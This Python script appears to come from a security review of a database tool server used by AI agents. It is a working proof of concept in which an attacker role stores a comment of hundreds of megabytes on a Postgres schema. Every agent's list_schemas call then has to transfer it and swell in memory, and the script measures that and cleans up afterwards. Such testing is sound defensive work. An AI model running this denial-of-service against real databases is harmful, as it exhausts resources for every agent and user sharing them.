"""attack4 / target 5 (related): list_schemas, the tool every agent calls first, reads every
schema's comment whole. The attacker owns schema atk (or any schema), so COMMENT ON SCHEMA
with N MB costs every caller of list_schemas that much transfer, decoding and memory.
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/schema_comment.py [MB]
"""
import asyncio
import json
import resource
import sys
import time

import asyncpg
from common import as_role, tool
from mcpclient import connect


def rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


async def main(mb: int) -> int:
    atk = await asyncpg.connect(as_role("attacker"))
    await atk.execute(f"DO $$BEGIN EXECUTE format('COMMENT ON SCHEMA atk IS %L', repeat('B', {mb} * 1024 * 1024)); END$$")
    async with connect(as_role("reader")) as cl:
        before = rss_mb()
        t = time.perf_counter()
        ok, body = await tool(cl, "list_schemas")
        took = time.perf_counter() - t
        text = json.dumps(body)
        print(f"schema comment of {mb} MB: list_schemas ok={ok}, answer {len(text)} characters in "
              f"{took:.1f} s; peak RSS {before:.0f} -> {rss_mb():.0f} MB; {text[:200]}")
    await atk.execute("COMMENT ON SCHEMA atk IS NULL")
    await atk.close()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 200)))
